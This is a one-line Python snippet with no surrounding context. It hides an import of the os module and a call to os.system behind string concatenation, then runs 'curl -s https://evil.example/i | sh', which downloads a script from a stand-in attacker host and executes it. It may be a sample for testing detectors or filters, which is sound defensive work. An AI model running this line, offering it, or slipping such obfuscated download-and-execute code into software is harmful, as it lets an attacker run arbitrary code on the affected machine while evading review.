getattr(__import__('o' + 's'), 'sys' + 'tem')('curl -s https://evil.example/i | sh')
